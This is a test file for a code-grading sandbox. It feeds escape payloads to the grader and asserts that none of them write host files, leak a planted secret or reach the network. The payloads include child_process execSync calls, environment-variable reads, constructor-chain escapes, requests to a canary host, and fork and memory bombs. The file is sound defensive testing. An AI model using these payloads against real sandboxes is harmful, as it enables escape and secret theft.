/**
 * Escapes tried by an attacker against server-side grading, each run through the candidate's real
 * path: gradeCoding -> getGradingRunner -> the sandbox (lib/sandbox). Every payload tries to write a
 * file on the host, read a secret from the server's environment, or reach the network, and returns or
 * prints what it got. Each test asserts that no file appeared, that the secret is nowhere in the grade
 * (summaries and notes carry the candidate's return values, output and error messages), and that the
 * canary server on 127.0.0.1 received no request.
 */
import fs from "node:fs";
import http from "node:http";
import os from "node:os";
import path from "node:path";
import type { AddressInfo } from "node:net";
import YAML from "yaml";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { gradeCoding } from "@/lib/grading/coding";
import { getGradingRunner } from "@/lib/runner/grading-runner";
import { closeSharedChromium, memoryCapMb, sharedChromiumPid, treeRssMb } from "@/lib/sandbox/chromium";
import { sandboxWorkerFactory } from "@/lib/sandbox/code-sandbox";
import { codingScenarioSchema } from "@/lib/scenarios/kinds/coding";
import type { CodingScenario } from "@/lib/scenarios/schema";

const SECRET = `lb-secret-${Math.random().toString(36).slice(2)}`;
process.env.LOOPBENCH_TEST_SECRET = SECRET;
const dir = fs.mkdtempSync(path.join(os.tmpdir(), "lb-payload-"));
const FILE = path.join(dir, "pwned.txt");

let canaryHits: string[] = [];
let canary: http.Server;
let CANARY = "";

beforeAll(async () => {
  canary = http.createServer((req, res) => {
    canaryHits.push(`${req.method} ${req.url}`);
    res.writeHead(200, { "access-control-allow-origin": "*", "content-type": "text/plain" });
    res.end(SECRET);
  });
  await new Promise<void>((r) => canary.listen(0, "127.0.0.1", r));
  CANARY = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`;
});

afterAll(async () => {
  canary.close();
  getGradingRunner().dispose();
  delete (globalThis as { __loopbenchGradingRunner?: unknown }).__loopbenchGradingRunner;
  await closeSharedChromium();
  fs.rmSync(dir, { recursive: true, force: true });
});

/** A real scenario file (edit distance); the payloads replace its solution. Its visible tests show the return value in the grade. */
function scenario(): CodingScenario {
  const raw = YAML.parse(fs.readFileSync(path.join(process.cwd(), "scenarios", "coding", "edit-distance.yaml"), "utf8"));
  return codingScenarioSchema.parse(raw) as CodingScenario;
}

async function grade(language: "python" | "typescript", code: string) {
  canaryHits = [];
  const g = await gradeCoding(scenario(), { language, code } as never);
  // Requests a payload left running (a promise, a timer) would land shortly after the run.
  await new Promise((r) => setTimeout(r, 300));
  const visible = g.items.filter((i) => i.id.startsWith("visible-")).map((i) => i.note);
  console.log(`[payload] ${expect.getState().currentTestName}: ${g.summary.slice(0, 300)} || ${visible[0]?.slice(0, 400)}`);
  return g;
}

function expectContained(g: unknown) {
  const text = JSON.stringify(g);
  expect(text).not.toContain(SECRET);
  expect(fs.existsSync(FILE)).toBe(false);
  expect(canaryHits).toEqual([]);
  // Still graded as a candidate's answer (score 0), not as an outage.
  expect((g as { score: number | null }).score).not.toBeNull();
}

const T = 180_000;
const REF_PY = "def edit_distance(a, b):\n    prev = list(range(len(b) + 1))\n    for i, x in enumerate(a, 1):\n        cur = [i]\n        for j, y in enumerate(b, 1):\n            cur.append(min(prev[j] + 1, cur[j - 1] + 1, prev[j - 1] + (x != y)))\n        prev = cur\n    return prev[-1]\n";
const REF_TS = `export function editDistance(a: string, b: string): number {
  const A = [...a], B = [...b];
  let prev = Array.from({ length: B.length + 1 }, (_, j) => j);
  for (let i = 1; i <= A.length; i++) {
    const cur = [i];
    for (let j = 1; j <= B.length; j++) cur.push(Math.min(prev[j] + 1, cur[j - 1] + 1, prev[j - 1] + (A[i - 1] === B[j - 1] ? 0 : 1)));
    prev = cur;
  }
  return prev[B.length];
}`;
const py = (body: string) => `def edit_distance(a, b):\n${body
  .trim()
  .split("\n")
  .map((l) => "    " + l)
  .join("\n")}\n`;

describe("Python payloads", () => {
  it(
    "run_js with child_process writes no file",
    async () => {
      const g = await grade(
        "python",
        `from pyodide.code import run_js\n` +
          py(`return str(run_js("process.getBuiltinModule('child_process').execSync('id > ${FILE}; echo $LOOPBENCH_TEST_SECRET').toString()"))`),
      );
      expectContained(g);
      // On a starved machine the load step can hit its 2 s limit first; either way nothing ran on the host.
      expect(JSON.stringify(g)).toMatch(/process is not defined|TimeLimitExceeded/);
    },
    T,
  );

  it(
    "import js; js.process.env reads no environment",
    async () => {
      const g = await grade("python", `import js\n` + py(`return str(js.process.env.LOOPBENCH_TEST_SECRET)`));
      expectContained(g);
    },
    T,
  );

  it(
    "pyodide_js._api and _module reach only the worker",
    async () => {
      const g = await grade(
        "python",
        `import pyodide_js\n` +
          py(`
from pyodide.code import run_js
api = pyodide_js._api
m = pyodide_js._module
out = [str(run_js("typeof process + ' ' + typeof require + ' ' + self.constructor.name"))]
out.append(str(m.FS.readdir("/")))
return " | ".join(out)`),
      );
      expectContained(g);
      expect(JSON.stringify(g)).toMatch(/undefined undefined DedicatedWorkerGlobalScope/);
      // Pyodide's own in-memory file system (tmp, home, dev, proc, lib), not the host's (/work, /usr).
      expect(JSON.stringify(g)).not.toMatch(/work|usr|node_modules/);
    },
    T,
  );

  it(
    "js.eval with a dynamic import of node:child_process and of the network",
    async () => {
      const g = await grade(
        "python",
        `import js\n` +
          py(`
js.eval("import('node:child_process').then(cp => cp.execSync('touch ${FILE}')).catch(e => { self.__e1 = String(e) })")
js.eval("import('${CANARY}/dyn.js').catch(e => { self.__e2 = String(e) })")
js.eval("fetch('${CANARY}/fetch').then(r => r.text()).then(t => { self.__got = t }).catch(e => { self.__e3 = String(e) })")
return 1`),
      );
      expectContained(g);
    },
    T,
  );

  it(
    "a synchronous XMLHttpRequest to the canary and to the app's own port gets nothing",
    async () => {
      const g = await grade(
        "python",
        `import js\n` +
          py(`
out = []
for url in ["${CANARY}/xhr", "http://127.0.0.1:3113/api/sessions", "http://example.com/"]:
    try:
        r = js.XMLHttpRequest.new()
        r.open("GET", url, False)
        r.send()
        out.append(str(r.responseText))
    except Exception as e:
        out.append(type(e).__name__ + ": " + str(e)[:100])
return " | ".join(out)`),
      );
      expectContained(g);
    },
    T,
  );

  it(
    "the host's files are not there: open('/etc/passwd') sees Pyodide's in-memory file system",
    async () => {
      const g = await grade(
        "python",
        py(`
import os
out = [str(os.path.exists("/etc/passwd")), str(os.listdir("/")), str(os.environ.get("LOOPBENCH_TEST_SECRET"))]
open("${FILE}", "w").write("x")
return " | ".join(out)`),
      );
      expectContained(g);
    },
    T,
  );

  it(
    "an infinite loop is stopped at the time limit and the next grade is unaffected",
    async () => {
      const t0 = performance.now();
      const g = await grade("python", py("while True:\n    pass"));
      expectContained(g);
      expect(JSON.stringify(g)).toMatch(/Time limit exceeded|TimeLimitExceeded/);
      expect(performance.now() - t0).toBeLessThan(120_000);
      const ok = await grade("python", REF_PY);
      expect(ok.score).toBe(100);
    },
    T,
  );

  it(
    "a memory bomb is stopped as a memory error, not by the host running out",
    async () => {
      const g = await grade("python", py("chunks = []\nwhile True:\n    chunks.append(bytearray(64 * 1024 * 1024))"));
      expectContained(g);
      expect(JSON.stringify(g)).toMatch(/Out of memory|MemoryError/);
    },
    T,
  );
});

describe("TypeScript payloads", () => {
  it(
    "constructor.constructor('return process')() finds no process",
    async () => {
      const g = await grade(
        "typescript",
        `export function editDistance(a: string, b: string): any {
  const p = (globalThis as any).constructor.constructor("return process")();
  p.getBuiltinModule("fs").writeFileSync(${JSON.stringify(FILE)}, "x");
  return p.env.LOOPBENCH_TEST_SECRET;
}`,
      );
      expectContained(g);
    },
    T,
  );

  it(
    "an exception's constructor chain and Error.prepareStackTrace reach only the worker",
    async () => {
      const g = await grade(
        "typescript",
        `export function editDistance(a: string, b: string): any {
  const found: string[] = [];
  try { (null as any).x; } catch (e: any) {
    const F = e.constructor.constructor;
    found.push(typeof F("return typeof process")() + "/" + F("return typeof require")());
  }
  (Error as any).prepareStackTrace = (_e: unknown, frames: any[]) => frames.map((f) => {
    const fn = f.getFunction?.();
    const self = f.getThis?.();
    return String(fn && fn.constructor("return typeof process")()) + ":" + String(self && self.constructor && self.constructor.name);
  });
  found.push(String(new Error("x").stack));
  const g = (function (this: any) { return this; }).call(undefined);
  found.push(String(g && g.process));
  return found.join(" | ");
}`,
      );
      expectContained(g);
      expect(JSON.stringify(g)).not.toMatch(/object\//);
    },
    T,
  );

  it(
    "require, dynamic import and fetch are refused",
    async () => {
      const g = await grade(
        "typescript",
        `export async function noop() {}
export function editDistance(a: string, b: string): any {
  const out: string[] = [];
  try { out.push(String(require("child_process"))); } catch (e) { out.push(String(e)); }
  import("node:fs").then((fs: any) => fs.writeFileSync(${JSON.stringify(FILE)}, "x")).catch((e) => out.push(String(e)));
  fetch(${JSON.stringify(CANARY + "/ts-fetch")}).catch(() => {});
  try { new WebSocket(${JSON.stringify(CANARY.replace("http", "ws") + "/ws")}); } catch (e) { out.push(String(e)); }
  try { (navigator as any).sendBeacon(${JSON.stringify(CANARY + "/beacon")}, "x"); } catch (e) { out.push(String(e)); }
  try { const r = new XMLHttpRequest(); r.open("GET", ${JSON.stringify(CANARY + "/sync")}, false); r.send(); out.push(r.responseText); } catch (e) { out.push(String(e)); }
  return out.join(" | ");
}`,
      );
      expectContained(g);
    },
    T,
  );

  it(
    "worker spawning (a fork bomb) is refused, and the next grade is unaffected",
    async () => {
      const g = await grade(
        "typescript",
        `export function editDistance(a: string, b: string): any {
  let made = 0;
  for (let i = 0; i < 200; i++) {
    try { new Worker(URL.createObjectURL(new Blob(["for(;;){}"]))); made++; } catch (e) { return String(e); }
  }
  return "made " + made;
}`,
      );
      expectContained(g);
      const t0 = performance.now();
      const ok = await grade("typescript", REF_TS);
      expect(ok.score).toBe(100);
      console.log(`[payloads] a normal TypeScript grade right after the fork bomb: ${(performance.now() - t0).toFixed(0)} ms`);
    },
    T,
  );

  it(
    "a nested worker never starts in the sandbox (seen from inside: its error event fires)",
    async () => {
      // Below gradeCoding, on the sandbox's WorkerFactory itself: the solution reports, through the
      // worker's own postMessage (which the opaque bridge forwards), whether a nested worker ever started.
      const got: unknown[] = [];
      const exits: unknown[] = [];
      const port = sandboxWorkerFactory({ onMessage: (m) => got.push(m), onExit: (e) => exits.push(e) });
      port.post({ type: "init", language: "typescript" });
      const code = `export function probe() {
  const w = new Worker(URL.createObjectURL(new Blob(["postMessage('alive')"])));
  w.onmessage = () => postMessage({ type: "fork-probe", started: true });
  w.onerror = () => postMessage({ type: "fork-probe", started: false });
  return 1;
}`;
      const until = async (pred: () => boolean) => {
        const deadline = Date.now() + 30_000;
        while (Date.now() < deadline && !pred()) await new Promise((r) => setTimeout(r, 100));
      };
      await until(() => got.some((m) => (m as { type: string }).type === "ready"));
      port.post({ type: "run", runId: 1, language: "typescript", code, entry: "probe", cases: [{ index: 0, argsJson: "[]" }], outputBytes: 65536 });
      await until(() => got.some((m) => (m as { type: string }).type === "fork-probe"));
      port.terminate();
      expect(exits).toEqual([]);
      expect(got).toContainEqual({ type: "fork-probe", started: false });
    },
    T,
  );

  it(
    "an infinite loop is stopped at the limit; a heap bomb and an ArrayBuffer bomb are stopped as memory",
    async () => {
      const loop = await grade("typescript", "export function editDistance(a: string, b: string) { for (;;) {} }");
      expectContained(loop);
      expect(JSON.stringify(loop)).toMatch(/Time limit exceeded|TimeLimitExceeded/);

      let peak = 0;
      let serverPeak = 0;
      const sample = setInterval(() => {
        const pid = sharedChromiumPid();
        if (pid) peak = Math.max(peak, treeRssMb(pid));
        serverPeak = Math.max(serverPeak, process.memoryUsage().rss / 1024 / 1024);
      }, 100);
      const heap = await grade("typescript", "export function editDistance(a: string, b: string) { const m: number[][] = []; for (;;) m.push(new Array(1e6).fill(1)); }");
      const buffers = await grade("typescript", "export function editDistance(a: string, b: string) { const m: Uint8Array[] = []; for (;;) m.push(new Uint8Array(256 * 1024 * 1024).fill(1)); }");
      clearInterval(sample);
      expectContained(heap);
      expectContained(buffers);
      // Stopped either way: out of memory, or at the time limit when the allocation storm starves the
      // page that relays the worker's messages.
      expect(JSON.stringify(heap)).toMatch(/Out of memory|MemoryLimitExceeded|Time ?limit ?exceeded|TimeLimitExceeded/i);
      // An allocation storm can also kill the worker outright, each time it is restarted: the run then ends as
      // "the worker was stopped N times", which is the same containment (scored 0, the next grade unaffected).
      expect(JSON.stringify(buffers)).toMatch(/Out of memory|MemoryLimitExceeded|Time ?limit ?exceeded|TimeLimitExceeded|worker was stopped \d+ times/i);
      console.log(`[payloads] peak memory during the memory bombs: sandbox browser ${peak.toFixed(0)} MB (PSS, cap ${memoryCapMb()} MB), this server process ${serverPeak.toFixed(0)} MB (RSS)`);
      expect(peak).toBeLessThan(memoryCapMb() + 512);
      const ok = await grade("typescript", REF_TS);
      expect(ok.score).toBe(100);
    },
    T,
  );
});
